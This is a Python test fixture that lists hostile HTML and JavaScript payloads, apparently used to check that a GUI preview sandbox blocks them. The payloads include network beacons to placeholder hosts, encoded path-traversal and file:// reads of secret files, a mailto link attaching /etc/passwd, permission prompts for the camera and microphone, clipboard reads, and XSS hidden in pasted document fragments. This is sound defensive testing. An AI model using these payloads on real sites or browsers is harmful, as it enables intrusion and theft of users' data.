"""More of what a hostile post would try: to talk, to read files, to ask the person, to start other programs."""

from __future__ import annotations

from tests.gui.preview_attacks import TABLE as MARKUP
from tests.gui.preview_attacks import Attack, Effect, Way, _attacks, _reads

_TALK = _attacks("talk", Effect.ASKED, {
    "fetch": "<script>fetch('$URL').catch(() => 0)</script>",
    "fetch-no-cors": "<script>fetch('$URL', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => 0)</script>",
    "fetch-kept": "<script>fetch('$URL', {keepalive: true, mode: 'no-cors'}).catch(() => 0)</script>",
    "request": "<script>{ const r = new XMLHttpRequest(); r.open('GET', '$URL'); r.send() }</script>",
    "request-now": "<script>try { const r = new XMLHttpRequest(); r.open('GET', '$URL', false); r.send() } catch (e) {}</script>",
    "beacon": "<script>navigator.sendBeacon('$URL', 'x')</script>",
    "events": "<script>new EventSource('$URL')</script>",
    "socket": "<script>try { new WebSocket('ws://$HOST/a/$NAME') } catch (e) {}</script>",
    "transport": "<script>try { new WebTransport('https://$UDP/').ready.catch(() => 0) } catch (e) {}</script>",
    "stun": "<script>{ const p = new RTCPeerConnection({iceServers: [{urls: 'stun:$UDP'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }</script>",
    "turn": "<script>{ const p = new RTCPeerConnection({iceServers: [{urls: 'turn:$RAW?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }</script>",
    "stun-in-frame": "<iframe srcdoc=\"<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:$UDP'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>\"></iframe>",
    "image": "<script>new Image().src = '$URL'</script>",
    "audio": "<script>new Audio('$URL.mp3').load()</script>",
    "font": "<script>new FontFace('f', 'url($URL.woff2)').load().catch(() => 0)</script>",
    "rule": "<style id=rules></style><script>rules.sheet.insertRule(\"body { background: url('$URL') }\")</script>",
    "import": "<script>import('$URL.js').catch(() => 0)</script>",
    "worker-imports": "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('$URL.js')\"])))</script>",
    "worker-fetch": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('$URL').catch(() => 0)\"])))</script>",
    "worker-socket": "<script>new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://$HOST/a/$NAME')\"])))</script>",
    "frame": "<script>{ const f = document.createElement('iframe'); f.src = '$URL.html'; document.body.append(f) }</script>",
    "frame-fetch": "<iframe srcdoc=\"<script>fetch('$URL').catch(() => 0)</script>\"></iframe>",
    "form-in-frame": "<iframe name=away hidden></iframe><form id=awayform target=away action='$URL'></form><script>awayform.submit()</script>",
    "svg": "<script>document.body.insertAdjacentHTML('beforeend', \"<svg><image href='$URL'/></svg>\")</script>",
}) + _attacks("talk", Effect.ASKED, {
    "location": "<script>location = '$URL'</script>",
    "replace": "<script>location.replace('$URL')</script>",
    "window": "<script>open('$URL')</script>",
    "window-self": "<script>open('$URL', '_self')</script>",
    "link": "<a id=self href='$URL'>x</a><script>self.document.getElementById('self').click()</script>",
    "opener": "<a id=away target=_blank rel=opener href='$URL'>x</a><script>away.click()</script>",
}, Way.ALONE) + _attacks("talk", Effect.ASKED, {
    "window-by-click": "<b id=go onclick=\"window.open('$URL')\">click</b>",
    "history": "<b id=go onclick=\"history.pushState(1, '', '#1'); location = '$URL'\">click</b>",
}, Way.CLICK)  # fmt: skip

_WORKERS = _attacks("worker", Effect.RAN, {
    "blob": "<script>new Worker(URL.createObjectURL(new Blob([\"$HIT\"])))</script>",
    "data": "<script>new Worker(\"data:text/javascript,$HIT\")</script>",
    "module": "<script>new Worker(URL.createObjectURL(new Blob([\"$HIT\"], {type: 'text/javascript'})), {type: 'module'})</script>",
    "shared": "<script>{ const w = new SharedWorker(\"data:text/javascript,onconnect = (e) => e.ports[0].postMessage(1)\"); w.port.onmessage = () => { $HIT }; w.port.start() }</script>",
}) + _attacks("worker", Effect.RAN, {
    "service": "<script>navigator.serviceWorker.register('/a/$NAME.js').then(() => { $HIT })</script>",
    "service-of-site": "<script>navigator.serviceWorker.register('/js/$NAME.js').then(() => { $HIT })</script>",
    "cache": "<script>caches.open('x').then(() => { $HIT })</script>",
    "storage": "<script>localStorage.setItem('x', 1); $HIT</script>",
    "cookie": "<script>document.cookie = 'x=1'; if (document.cookie.includes('x=1')) { $HIT }</script>",
    "database": "<script>indexedDB.open('x').onsuccess = () => { $HIT }</script>",
    "locks": "<script>navigator.locks.request('x', () => { $HIT })</script>",
}, Way.TOGETHER, "http")  # fmt: skip

_IMAGE = "document.getElementById('$NAME').naturalWidth > 0"
_COLOUR = "getComputedStyle(document.getElementById('$NAME')).color === 'rgb(1, 2, 3)'"
_FRAME = "(() => { try { return document.getElementById('$NAME').contentDocument.body.textContent.includes('SECRET') } catch { return false } })()"
_FILES = _reads("file", {
    "img": ("<img id='$NAME' src='$FILES/secret.svg'>", _IMAGE),
    "img-upper-case": ("<img id='$NAME' src='FILE://$DIR/secret.svg'>", _IMAGE),
    "img-host": ("<img id='$NAME' src='file://localhost$DIR/secret.svg'>", _IMAGE),
    "img-slashes": ("<img id='$NAME' src='file:$DIR/secret.svg'>", _IMAGE),
    "img-encoded": ("<img id='$NAME' src='$FILES/%73ecret.svg'>", _IMAGE),
    "img-dots": ("<img id='$NAME' src='$FILES/site/../secret.svg'>", _IMAGE),
    "srcset": ("<img id='$NAME' srcset='$FILES/secret.svg 1x'>", _IMAGE),
    "picture": ("<picture><source srcset='$FILES/secret.svg'><img id='$NAME'></picture>", _IMAGE),
    "style": ("<link rel=stylesheet href='$FILES/secret-style.css'><p id='$NAME' class=secret-style>x</p>", _COLOUR),
    "import": ("<style>@import url('$FILES/secret-import.css');</style><p id='$NAME' class=secret-import>x</p>", _COLOUR),
    "by-request": ("<script>{ const r = new XMLHttpRequest(); r.onload = () => { document.getElementById('$NAME').textContent = r.responseText }; r.open('GET', '$FILES/secret.txt'); r.send() }</script><p id='$NAME'></p>",
                   "document.getElementById('$NAME').textContent.includes('SECRET')"),
    "symlink": ("<img id='$NAME' src='/linked.svg'>", _IMAGE),
    "symlinked-folder": ("<img id='$NAME' src='/linked/secret.svg'>", _IMAGE),
    "symlink-to-link": ("<img id='$NAME' src='/twice.svg'>", _IMAGE),
    "symlinked-style": ("<link rel=stylesheet href='/linked/secret-linked.css'><p id='$NAME' class=secret-linked>x</p>", _COLOUR),
    "symlinked-page": ("<iframe id='$NAME' src='/linked/secret.html'></iframe>", _FRAME),
    "encoded-dots": ("<img id='$NAME' src='/assets/..%2f..%2fsecret.svg'>", _IMAGE),
    "encoded-all": ("<img id='$NAME' src='/assets/%2e%2e%2f%2e%2e%2fsecret.svg'>", _IMAGE),
    "encoded-twice": ("<img id='$NAME' src='/assets/..%252f..%252fsecret.svg'>", _IMAGE),
    "encoded-thrice": ("<img id='$NAME' src='/assets/..%25252f..%25252fsecret.svg'>", _IMAGE),
    "encoded-slash": ("<img id='$NAME' src='/%2f$DIR/secret.svg'>", _IMAGE),
    "absolute": ("<img id='$NAME' src='/%2f%2f$DIR/secret.svg'>", _IMAGE),
    "dots-in-style": ("<link rel=stylesheet href='/assets/..%2f..%2fsecret-dots.css'><p id='$NAME' class=secret-dots>x</p>", _COLOUR),
    "dots-after-base": ("<img id='$NAME' src='/base/..%2fsecret.svg'>", _IMAGE),
    "svg-image": ("<svg><image id='$NAME' href='$FILES/secret.svg'/></svg>", "document.getElementById('$NAME').getBBox().width > 0"),
}) + _attacks("file", Effect.RAN, {
    "script": "<script src='$FILES/hit/$NAME.js'></script>",
    "script-of-link": "<script src='/linked/hit/$NAME.js'></script>",
    "frame-script": "<iframe src='$FILES/hit/$NAME.html'></iframe>",
    "embed": "<embed src='$FILES/hit/$NAME.html'>",
}) + _attacks("file", Effect.RAN, {
    "refresh": "<meta http-equiv=refresh content='0;url=$FILES/hit/$NAME.html'>",
    "location": "<script>location = '$FILES/hit/$NAME.html'</script>",
}, Way.ALONE) + _attacks("file", Effect.RAN, {
    "link": "<a id=go href='$FILES/hit/$NAME.html'>click</a>",
}, Way.CLICK)  # fmt: skip

_DIALOGS = _attacks("dialog", Effect.SHOWN, {
    "alert": "<script>alert('$NAME')</script>",
    "confirm": "<script>confirm('$NAME')</script>",
    "prompt": "<script>prompt('$NAME')</script>",
    "alert-in-frame": "<iframe srcdoc=\"<script>alert('$NAME')</script>\"></iframe>",
    "print": "<script>print()</script>",
    "window": "<script>open('about:blank')</script>",
}, Way.ALONE) + _attacks("dialog", Effect.SHOWN, {
    "leaving": "<b id=go onclick=\"onbeforeunload = (e) => { e.preventDefault(); return 'stay' }; setTimeout(() => { location = '/html/x.html' })\">click</b>",
    "file": "<input id=go type=file>",
    "files": "<input id=go type=file multiple>",
    "file-by-label": "<label id=go>click<input type=file hidden></label>",
    "file-by-script": "<b id=go onclick=\"const f = document.createElement('input'); f.type = 'file'; f.click()\">click</b>",
    "file-in-shadow": "<div id=go style='display: inline-block'><template shadowrootmode=closed><input type=file></template></div>",
    "colour": "<input id=go type=color>",
    "colour-by-label": "<label id=go>click<input type=color style='opacity: 0'></label>",
    "colour-in-shadow": "<div id=go style='display: inline-block'><template shadowrootmode=closed><input type=color></template></div>",
    "date": "<b id=go onclick=\"d.showPicker()\">click</b><input id=d type=date>",
    "select": "<select id=go><option>a<option>b</select>",
    "new-window": "<a id=go target=_blank href='$URL'>click</a>",
    "named-window": "<a id=go target=other href='/html/x.html'>click</a>",
    "window-by-click": "<b id=go onclick=\"open('about:blank', 'x', 'width=300,height=300')\">click</b>",
    "form-window": "<form target=_blank action='$URL'><button id=go>click</button></form>",
    "download": "<a id=go download href='/css/x.css'>click</a>",
    "download-data": "<a id=go download='x.html' href='data:text/html,x'>click</a>",
    "download-named": "<a id=go download='setup.exe' href='/js/x.js'>click</a>",
    "download-blob": "<b id=go onclick=\"const a = document.createElement('a'); a.href = window.URL.createObjectURL(new Blob(['x'])); a.download = 'x'; a.click()\">click</b>",
    "full-screen": "<b id=go onclick=\"document.documentElement.requestFullscreen()\">click</b>",
}, Way.CLICK) + _attacks("dialog", Effect.SHOWN, {
    "download-of-type": "<iframe src='/a/$NAME.bin'></iframe>",
    "geolocation": "<script>navigator.geolocation.getCurrentPosition(() => 0)</script>",
    "camera": "<script>navigator.mediaDevices.getUserMedia({video: true, audio: true}).catch(() => 0)</script>",
    "microphone": "<script>navigator.mediaDevices.getUserMedia({audio: true}).catch(() => 0)</script>",
}, Way.ALONE, "http") + _attacks("dialog", Effect.SHOWN, {
    "notification": "<b id=go onclick=\"Notification.requestPermission()\">click</b>",
    "protocol": "<b id=go onclick=\"navigator.registerProtocolHandler('web+evil', '/?%s')\">click</b>",
    "screen": "<b id=go onclick=\"navigator.mediaDevices.getDisplayMedia().catch(() => 0)\">click</b>",
    "pointer": "<b id=go onclick=\"this.requestPointerLock()\">click</b>",
    "folder": "<b id=go onclick=\"showDirectoryPicker().catch(() => 0)\">click</b>",
    "fonts": "<b id=go onclick=\"queryLocalFonts().catch(() => 0)\">click</b>",
}, Way.CLICK, "http")  # fmt: skip

_CLIPBOARD = _attacks("clipboard", Effect.CLIPBOARD, {
    "copy": "<input id=copied value='$NAME'><script>copied.select(); document.execCommand('copy')</script>",
    "cut": "<input id=copied value='$NAME'><script>copied.select(); document.execCommand('cut')</script>",
    "handler": "<p>x</p><script>addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', '$NAME'); e.preventDefault() }); document.execCommand('selectAll'); document.execCommand('copy')</script>",
}, Way.ALONE) + _attacks("clipboard", Effect.CLIPBOARD, {
    "by-click": "<b id=go onclick=\"navigator.clipboard.writeText('$NAME').catch(() => 0)\">click</b>",
    "on-click": "<input id=copied value='$NAME'><b id=go onclick=\"copied.select(); document.execCommand('copy')\">click</b>",
}, Way.CLICK) + _attacks("clipboard", Effect.RAN, {
    "read-by-click": "<b id=go onclick=\"navigator.clipboard.readText().then((t) => { if (t.includes('CLIP')) { $HIT } })\">click</b>",
}, Way.CLICK, "http") + _attacks("clipboard", Effect.RAN, {
    "paste": "<textarea id=pasted></textarea><script>pasted.focus(); document.execCommand('paste'); if (pasted.value.includes('CLIP')) { $HIT }</script>",
}, Way.ALONE)  # fmt: skip

_PROGRAMS = _attacks("other program", Effect.OPENED, {
    "scheme": "<a id=go href='x-attack:$NAME'>click</a>",
    "scheme-of-form": "<form action='x-attack:$NAME'><button id=go>click</button></form>",
    "scheme-of-frame": "<b id=go onclick=\"document.body.insertAdjacentHTML('beforeend', '<iframe src=x-attack:$NAME></iframe>')\">click</b>",
    "mail": "<a id=go href='mailto:a@example.org?attach=/etc/passwd&subject=$NAME'>click</a>",
    "telephone": "<a id=go href='tel:$NAME'>click</a>",
}, Way.CLICK)  # fmt: skip

_FOCUS = _attacks("focus", Effect.FOCUS, {
    "autofocus": "<input autofocus>",
    "by-script": "<input id=field><script>field.focus(); window.focus()</script>",
    "in-frame": "<iframe srcdoc='<input autofocus>'></iframe>",
    "link": "<a href='#x' autofocus>x</a>",
}, Way.ALONE)  # fmt: skip

# What a clipboard brings, as other programs and pages wrap it.
_PASTED = _attacks("pasted", Effect.RAN, {
    "fragment": "<html><body><!--StartFragment--><p>글<img src=x: onerror=\"$HIT\"></p><!--EndFragment--></body></html>",
    "office": "<o:p>글</o:p><!--[if gte mso 9]><xml></xml><![endif]--><svg onload=\"$HIT\"></svg>",
    "google": "<b style='font-weight:normal' id=docs-internal-guid-1><details open ontoggle=\"$HIT\">글</details></b>",
    "style": "<style>@keyframes k3 { to { left: 1px } }</style><p style='animation: k3 .01s' onanimationstart=\"$HIT\">글</p>",
    "attributes": "<p data-ke-size=size16 title='\"><img src=x: onerror=$HIT>'>글</p><img alt='`' src='x:' onerror='$HIT'>",
    "broken": "<p>글<<script>$HIT</script><p",
}) + _attacks("pasted", Effect.ASKED, {
    "tracker": "<p>글<img width=1 height=1 src='$URL'></p>",
    "style-sheet": "<link rel=stylesheet href='$URL.css'><p>글</p>",
    "background": "<p style=\"background-image:url('$URL')\">글</p>",
})  # fmt: skip

# The engine has closed these by itself: they do nothing without our walls either, and are not counted.
_CLOSED = _attacks("closed", Effect.NOTHING, {
    "data-page": "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>$HIT</script>\">",
    "script-refresh": "<meta http-equiv=refresh content=\"0;url=javascript:$HIT\">",
    "icon": "<link rel=icon href='$URL'>",
    "manifest": "<link rel=manifest href='$URL'>",
    "prerender": "<link rel=prerender href='http://$RAW/'>",
    "view-source": "<iframe src='view-source:$URL'></iframe>",
    "chrome": "<iframe src='chrome://gpu'></iframe>",
    "image-script": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='$HIT'/>\">",
    "use": "<svg><use href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><g id='x' onload='$HIT'/></svg>#x\"/></svg>",
    "dots": "<img src='/../../secret.svg'>",
    "user-info": "<img src='http://name:word@$HOST/a/$NAME'>",
    "filter": "<p style=\"filter: url('$URL#f')\">x</p>",
    "share": "<img src='//server/share/secret.svg'>",
}, Way.ALONE) + _attacks("closed", Effect.NOTHING, {
    "data-link": "<a id=go href=\"data:text/html,<script>$HIT</script>\">click</a>",
    "chrome-link": "<a id=go href='chrome://kill'>click</a>",
    "source-link": "<a id=go href='view-source:$URL'>click</a>",
    "math-link": "<math><mi id=go href=\"javascript:$HIT\">click</mi></math>",
}, Way.CLICK)  # fmt: skip

TABLE: tuple[Attack, ...] = (
    *MARKUP, *_TALK, *_WORKERS, *_FILES, *_DIALOGS, *_CLIPBOARD, *_PROGRAMS, *_FOCUS, *_PASTED, *_CLOSED,
)  # fmt: skip
